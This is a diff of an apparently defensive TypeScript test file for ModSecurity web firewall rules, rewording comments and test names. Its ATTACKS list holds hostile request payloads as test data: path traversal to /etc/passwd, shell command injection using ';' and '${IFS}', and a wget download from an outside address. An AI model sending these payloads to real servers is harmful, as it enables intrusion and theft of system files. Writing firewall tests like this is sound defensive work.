@@ -9,14 +9,14 @@ const SITE = `http://${ADDRESS.web}`;
 const HOST = ['--header', 'Host: web.example'];
 const JSON_BODY = ['--header', 'Content-Type: application/json', '--data'];
 
-/** As the file says that a page is let do what it must. */
+/** An exception for a page, as the file describes it. */
 const EXCEPTIONS = `
   <Location "/forum">
     SecRuleRemoveById 11711-11719
   </Location>
   SecRule REQUEST_FILENAME "@beginsWith /search" "id:11791,phase:1,pass,nolog,ctl:ruleRemoveById=11701-11719"`;
 
-/** What follows the site's address, curl's further words, and the rule of ModSecurity that denies it. */
+/** The target, further arguments of curl, and the rule of ModSecurity that denies the request. */
 const ATTACKS: readonly (readonly [path: string, words: readonly string[], by: number])[] = [
   ['/show.php?file=/etc/passwd', [], 11701],
   ['/show.php?file=../../../../etc/passwd%00.jpg', [], 11701],
@@ -34,7 +34,7 @@ const ATTACKS: readonly (readonly [path: string, words: readonly string[], by: n
   ['/run?c=%2Fusr%2Fbin%2FWHOAMI', [], 11702],
   ['/run?c=;cd%20/tmp', [], 11703],
   ['/run?c=cd+/tmp;ls', [], 11703],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's, not JavaScript's
   ['/run?c=cd${IFS}/tmp', [], 11703],
   ['/run?c=wget%20http://198.51.100.1/x', [], 11704],
   ['/run?c=%3Bwget+x', [], 11704],
@@ -53,7 +53,7 @@ const ATTACKS: readonly (readonly [path: string, words: readonly string[], by: n
   ['/', ['--data', 'highlight=%27'], 11715],
 ];
 
-/** What people do ask for. */
+/** Requests of ordinary visitors. */
 const HARMLESS: readonly (readonly [path: string, words: readonly string[]])[] = [
   ['/?q=wget', []],
   ['/?q=how+to+use+wget+options', []],
@@ -94,13 +94,13 @@ for (const [path, words, by] of ATTACKS) {
   });
 }
 
-test('an attacker with an IPv6 address is named whole', async () => {
+test('names the whole IPv6 address of an attacker', async () => {
   const url = `http://[${ADDRESS.web6}]/?f=/etc/passwd`;
   assert.is(await site.ask(ADDRESS.attacker6, url, ...HOST), 403);
   assert.equal(await site.alerts(), [{ rule: 117015, level: 10, srcip: ADDRESS.attacker6, by: 11701 }]);
 });
 
-test('many attacks in forms end in an alert of level 12', async () => {
+test('raises an alert of level 12 for many attacks in forms', async () => {
   for (let count = 0; count < 8; count++)
     await site.ask(ADDRESS.attacker, `${SITE}/`, ...HOST, '--data', 'f=/etc/passwd');
   assert.is((await site.alerts()).at(-1)?.level, 12);
@@ -113,7 +113,7 @@ for (const [path, words] of HARMLESS) {
   });
 }
 
-test('an exception lets a page do what it must, and no other', async () => {
+test('lets only the page of an exception pass', async () => {
   assert.is(await site.ask(ADDRESS.visitor, `${SITE}/forum`, ...HOST, '--data', 'post=/etc/passwd'), 404);
   assert.is(await site.ask(ADDRESS.visitor, `${SITE}/search?q=/etc/passwd`, ...HOST), 404);
   assert.equal(await site.lines(), []);
@@ -122,7 +122,7 @@ test('an exception lets a page do what it must, and no other', async () => {
   assert.is((await site.lines()).length, 2);
 });
 
-test('a visitor who reads 30 pages with pictures, misses two and logs in is left alone', async () => {
+test('raises no alert for a visitor with 30 pages, pictures, two 404s and a login', async () => {
   for (let page = 1; page <= 30; page++) {
     for (const name of [`page-${page}.html`, `picture-${page}.png`]) {
       await writeFile(`${site.apache.directory}/htdocs/${name}`, 'x');
